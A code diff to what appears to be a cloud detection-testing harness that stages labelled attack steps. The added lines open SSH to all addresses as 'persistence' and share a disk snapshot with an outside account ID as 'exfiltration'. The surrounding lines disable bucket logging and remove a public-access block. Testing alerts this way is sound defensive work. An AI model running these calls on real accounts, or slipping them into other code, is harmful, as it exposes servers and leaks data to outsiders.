@@ -112,6 +112,14 @@ def attack(estate: Estate, attack: Attack) -> None:
         s3.delete_public_access_block(Bucket="archive")
     with attack.act(("Stealth:S3/ServerAccessLoggingDisabled", "data")):
         s3.put_bucket_logging(Bucket="data", BucketLoggingStatus={})
+    ec2 = estate.client("ec2", keys["mallory"])
+    with attack.act(("Persistence:EC2/ExternalRemoteServices", "mallory")):
+        anybody = {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
+        ec2.authorize_security_group_ingress(GroupId=estate.group, IpPermissions=[anybody])
+    with attack.act(("Exfiltration:EC2/TransferDataToCloudAccount", "mallory")):
+        ec2.modify_snapshot_attribute(
+            SnapshotId=estate.snapshot, CreateVolumePermission={"Add": [{"UserId": "999999999999"}]}
+        )
     with attack.act(("Discovery:IAMUser/AnomalousBehavior", "deploy")):
         looks_around(estate)
     stolen = estate.client("iam", keys["deploy"], STRANGE)
